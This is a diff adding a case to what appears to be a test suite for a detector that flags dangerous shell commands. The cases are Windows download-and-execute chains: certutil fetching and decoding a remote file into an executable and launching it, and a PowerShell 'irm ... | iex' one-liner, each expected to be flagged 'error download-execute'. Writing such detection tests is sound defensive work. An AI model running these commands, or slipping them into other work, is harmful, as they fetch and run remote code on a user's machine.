@@ -109,6 +109,11 @@ describe('what flows through variables, files and pipes', () => {
       `certutil -urlcache -split -f https://w.vendor-tools.com/s.exe %TEMP%\\s.exe && start %TEMP%\\s.exe`,
       'error download-execute',
     ],
+    [
+      'a tool that decodes',
+      `certutil -urlcache -f https://w.vendor-tools.com/s.txt %TEMP%\\s.b64\ncertutil -decode %TEMP%\\s.b64 %APPDATA%\\s.exe >nul\nstart "" /b %APPDATA%\\s.exe`,
+      'error download-execute',
+    ],
     ['a pipe over lines', `irm http://203.0.113.7/a |\n  iex`, 'error download-execute'],
     [
       'the escape at a line end',
